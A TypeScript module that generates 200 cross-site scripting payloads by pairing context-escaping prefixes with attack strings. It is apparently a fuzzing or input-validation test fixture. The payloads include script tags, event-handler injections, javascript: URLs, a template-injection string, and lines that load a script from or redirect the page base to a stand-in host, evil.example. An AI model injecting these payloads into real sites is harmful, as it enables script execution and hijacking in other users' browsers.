/** Contexts that a text may be put into, closed to break out of them. */
const openings = ['', '">', "'>", '-->', ']]>', '</title>', '</script>', '</textarea>'];

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x>',
  '<scr<script>ipt>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert`1`>',
  '<svg><script>alert(1)',
  '<body onload=alert(1)>',
  '<style onload=alert(1)>',
  '<style>@import"//x.example"',
  '<iframe srcdoc=<b>x</b>>',
  '<iframe src=javascript:x()>',
  '<a href=javascript:x()>x</a>',
  '<math href=javascript:x()>',
  '<form action=javascript:x()>',
  '<object data=javascript:x()>',
  '<embed src=javascript:x()>',
  '<input autofocus onfocus=x()>',
  '<details open ontoggle=x()>',
  '<video src=x onerror=x()>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh>',
  '<!--<script>alert(1)//-->',
  '{{constructor("x()")()}}',
  '&lt;script&gt;&#60;b&#62;',
];

/** 200 texts that would run as script wherever one was taken for markup. Each fits the shortest field, of 40 characters. */
export const scriptPayloads = openings.flatMap((opening) => attacks.map((attack) => opening + attack));

/** One of them; counting on after the last starts over. */
export const pickPayload = (count: number): string => scriptPayloads[count % scriptPayloads.length] ?? '';
